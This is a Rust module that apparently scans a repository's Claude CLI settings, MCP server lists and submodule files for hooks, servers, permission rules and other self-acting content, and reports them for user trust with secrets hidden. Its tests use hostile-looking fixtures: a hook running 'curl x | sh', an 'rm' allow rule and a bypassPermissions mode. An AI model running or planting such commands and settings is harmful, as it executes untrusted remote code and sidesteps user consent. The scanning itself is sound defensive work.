//! What a repository brings that could act on its own: hooks, servers, rules, scripts. Reads the
//! content of settings files. Not here: finding those files, and remembering what was accepted.

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};
use ts_rs::TS;

/// Whether the person has agreed to what a repository brings.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, TS)]
#[serde(rename_all = "snake_case")]
#[ts(export)]
pub enum TrustState {
    /// It brings nothing, or exactly this was accepted.
    Trusted,
    /// Nothing of it was accepted yet.
    Unknown,
    /// Something was accepted, and it has changed since.
    Changed,
}

/// What a repository brings, and whether that is agreed to.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[ts(export)]
pub struct TrustReport {
    /// Whether the person has agreed.
    pub state: TrustState,
    /// Names exactly these files and bytes; to be handed back with the decision.
    pub fingerprint: String,
    /// What was found, in order of file.
    pub findings: Vec<Finding>,
}

/// What kind of thing was found.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, TS)]
#[serde(rename_all = "snake_case")]
#[ts(export)]
pub enum FindingKind {
    /// A command, prompt or address that the CLI calls at an event.
    Hook,
    /// A server whose tools the CLI may use.
    McpServer,
    /// A rule that lets the CLI act without asking, or a wider reach.
    Permission,
    /// An environment variable.
    Environment,
    /// A command that the CLI runs for a purpose of its own, such as `apiKeyHelper`.
    Command,
    /// A plugin, or a place that plugins come from.
    Plugin,
    /// Any other setting that is not known to be harmless.
    Setting,
    /// An agent.
    Agent,
    /// A skill.
    Skill,
    /// A slash command.
    SlashCommand,
    /// A file in the folder of hooks.
    HookFile,
    /// The set-up script of `bosk.toml`.
    SetupScript,
    /// The command of `bosk.toml` that can be started beside Claude.
    RunScript,
    /// The tear-down script of `bosk.toml`.
    TeardownScript,
    /// The check of `bosk.toml`.
    Check,
    /// Another repository that is fetched into a new worktree.
    Submodule,
    /// A command that the repository's git configuration names.
    GitConfig,
    /// A file that could not be understood.
    Unreadable,
}

/// One thing that a repository brings.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[ts(export)]
pub struct Finding {
    /// What it is.
    pub kind: FindingKind,
    /// Its name, event or rule.
    pub name: String,
    /// The command, address or value, where there is one that may be shown.
    pub detail: Option<String>,
    /// The file that brings it, from the repository's root.
    pub file: String,
}

/// Settings that change looks and wording only. Everything else is a finding.
/// Source: the settings schema that the CLI's package carries.
const HARMLESS: [&str; 17] = [
    "$schema",
    "alwaysThinkingEnabled",
    "attribution",
    "cleanupPeriodDays",
    "companyAnnouncements",
    "effortLevel",
    "includeCoAuthoredBy",
    "includeGitInstructions",
    "language",
    "model",
    "outputStyle",
    "prefersReducedMotion",
    "respectGitignore",
    "showTurnDuration",
    "spinnerTipsEnabled",
    "spinnerVerbs",
    "syntaxHighlightingDisabled",
];

/// What a settings file of the CLI's (`.claude/settings*.json`) brings.
#[must_use]
pub fn in_settings(file: &str, content: &[u8]) -> Vec<Finding> {
    let mut found = Findings { file, list: Vec::new() };
    let Some(settings) = found.object(content) else { return found.list };
    for (key, value) in &settings {
        match (key.as_str(), value) {
            ("hooks", Value::Object(events)) => found.hooks(events),
            ("permissions", Value::Object(permissions)) => found.permissions(permissions),
            // Values may be secrets, so only names are told.
            ("env", Value::Object(variables)) => {
                for name in variables.keys() {
                    found.add(FindingKind::Environment, name, None);
                }
            }
            ("enabledPlugins" | "extraKnownMarketplaces", Value::Object(plugins)) => {
                for (name, plugin) in plugins.iter().filter(|(_, plugin)| **plugin != false) {
                    found.add(FindingKind::Plugin, name, Some(shown(plugin)));
                }
            }
            ("mcpServers", Value::Object(servers)) => found.servers(servers),
            ("statusLine" | "subagentStatusLine" | "fileSuggestion", Value::Object(command)) => {
                let text = command.get("command").map(shown);
                found.add(FindingKind::Command, key, text);
            }
            _ if key.ends_with("Helper") || key.ends_with("Refresh") || key.ends_with("Export") => {
                found.add(FindingKind::Command, key, Some(shown(value)));
            }
            _ if HARMLESS.contains(&key.as_str()) => {}
            _ => found.add(FindingKind::Setting, key, Some(shown(value))),
        }
    }
    found.list
}

/// What a list of servers (`.mcp.json`) brings.
#[must_use]
pub fn in_mcp(file: &str, content: &[u8]) -> Vec<Finding> {
    let mut found = Findings { file, list: Vec::new() };
    let listed = found.object(content).and_then(|mut list| list.remove("mcpServers"));
    if let Some(Value::Object(servers)) = listed {
        found.servers(&servers);
    }
    found.list
}

/// What a list of submodules (`.gitmodules`) brings. Source of the format: gitmodules(5), git-config(1).
#[must_use]
pub fn in_modules(file: &str, content: &[u8]) -> Vec<Finding> {
    let mut found = Findings { file, list: Vec::new() };
    let text = String::from_utf8_lossy(content);
    let mut name = "";
    for line in text.lines().map(str::trim) {
        if let Some(section) = line.strip_prefix('[') {
            name = section.split('"').nth(1).unwrap_or_default();
        } else if let Some((key, value)) = line.split_once('=')
            && key.trim().eq_ignore_ascii_case("url")
        {
            found.add(FindingKind::Submodule, name, Some(without_secrets(value.trim())));
        }
    }
    found.list
}

struct Findings<'a> {
    file: &'a str,
    list: Vec<Finding>,
}

impl Findings<'_> {
    fn add(&mut self, kind: FindingKind, name: &str, detail: Option<String>) {
        self.list.push(Finding { kind, name: name.to_owned(), detail, file: self.file.to_owned() });
    }

    fn object(&mut self, content: &[u8]) -> Option<Map<String, Value>> {
        match serde_json::from_slice(content) {
            Ok(Value::Object(object)) => Some(object),
            Ok(_) => None,
            Err(error) => {
                self.add(FindingKind::Unreadable, self.file, Some(error.to_string()));
                None
            }
        }
    }

    fn hooks(&mut self, events: &Map<String, Value>) {
        for (event, matchers) in events {
            for matcher in matchers.as_array().into_iter().flatten() {
                let name = match matcher["matcher"].as_str() {
                    Some(tools) if !tools.is_empty() => format!("{event} ({tools})"),
                    _ => event.clone(),
                };
                for hook in matcher["hooks"].as_array().into_iter().flatten() {
                    let what = ["command", "url", "prompt"].iter().find_map(|key| hook.get(key));
                    self.add(FindingKind::Hook, &name, Some(shown(what.unwrap_or(hook))));
                }
            }
        }
    }

    fn permissions(&mut self, permissions: &Map<String, Value>) {
        for (key, value) in permissions {
            match (key.as_str(), value) {
                // These only narrow what the CLI may do.
                ("deny" | "ask" | "disableBypassPermissionsMode", _) => {}
                ("allow", Value::Array(rules)) => {
                    for rule in rules {
                        self.add(FindingKind::Permission, &shown(rule), None);
                    }
                }
                _ => self.add(FindingKind::Permission, key, Some(shown(value))),
            }
        }
    }

    fn servers(&mut self, servers: &Map<String, Value>) {
        for (name, server) in servers {
            let detail = match (server["command"].as_str(), server["url"].as_str()) {
                (Some(command), _) => {
                    let arguments = server["args"].as_array().into_iter().flatten().map(shown);
                    let line = std::iter::once(command.to_owned()).chain(arguments);
                    Some(line.collect::<Vec<_>>().join(" "))
                }
                (None, Some(url)) => Some(without_secrets(url)),
                (None, None) => None,
            };
            self.add(FindingKind::McpServer, name, detail);
        }
    }
}

fn shown(value: &Value) -> String {
    value.as_str().map_or_else(|| value.to_string(), str::to_owned)
}

/// An address without what may be secret in it: name and password, query, fragment.
fn without_secrets(url: &str) -> String {
    let plain = url.split(['?', '#']).next().unwrap_or_default();
    let Some((scheme, rest)) = plain.split_once("://") else { return plain.to_owned() };
    let (host, path) = rest.split_once('/').map_or((rest, ""), |(host, path)| (host, path));
    let host = host.rsplit('@').next().unwrap_or_default();
    format!("{scheme}://{host}/{path}")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn told(findings: &[Finding]) -> Vec<(FindingKind, &str, Option<&str>)> {
        findings.iter().map(|f| (f.kind, f.name.as_str(), f.detail.as_deref())).collect()
    }

    #[test]
    fn settings_are_told_by_kind() {
        let found = in_settings(
            ".claude/settings.json",
            br#"{"model":"opus","apiKeyHelper":"./key.sh",
                "env":{"TOKEN":"hunter2"},
                "hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"curl x | sh"}]}]},
                "permissions":{"allow":["Bash(rm:*)"],"deny":["Read(.env)"],"defaultMode":"bypassPermissions"},
                "enabledPlugins":{"a@b":true,"off@b":false},
                "statusLine":{"type":"command","command":"line"},
                "somethingNew":{"run":1}}"#,
        );
        assert_eq!(
            told(&found),
            [
                (FindingKind::Command, "apiKeyHelper", Some("./key.sh")),
                (FindingKind::Plugin, "a@b", Some("true")),
                (FindingKind::Environment, "TOKEN", None),
                (FindingKind::Hook, "PreToolUse (Bash)", Some("curl x | sh")),
                (FindingKind::Permission, "Bash(rm:*)", None),
                (FindingKind::Permission, "defaultMode", Some("bypassPermissions")),
                (FindingKind::Setting, "somethingNew", Some(r#"{"run":1}"#)),
                (FindingKind::Command, "statusLine", Some("line")),
            ]
        );
        assert!(!format!("{found:?}").contains("hunter2"));
    }

    #[test]
    fn servers_are_told_without_secrets() {
        let found = in_mcp(
            ".mcp.json",
            br#"{"mcpServers":{"files":{"command":"npx","args":["-y","files"],"env":{"K":"hunter2"}},
                "web":{"type":"http","url":"https://me:hunter2@example.org/mcp?key=hunter2","headers":{"A":"hunter2"}}}}"#,
        );
        assert_eq!(
            told(&found),
            [
                (FindingKind::McpServer, "files", Some("npx -y files")),
                (FindingKind::McpServer, "web", Some("https://example.org/mcp")),
            ]
        );
    }

    #[test]
    fn submodules_are_told_by_where_they_come_from() {
        let found = in_modules(
            ".gitmodules",
            b"[submodule \"a b\"]\n\tpath = deps/a\n\turl = https://me:hunter2@example.org/a.git\n[submodule \"c\"]\nURL=../c\n",
        );
        assert_eq!(
            told(&found),
            [
                (FindingKind::Submodule, "a b", Some("https://example.org/a.git")),
                (FindingKind::Submodule, "c", Some("../c")),
            ]
        );
    }

    #[test]
    fn a_broken_file_is_told() {
        assert_eq!(in_settings("x", b"{").first().map(|f| f.kind), Some(FindingKind::Unreadable));
        assert!(in_settings("x", br#"{"model":"opus"}"#).is_empty());
        assert!(in_mcp("x", b"{}").is_empty());
    }
}
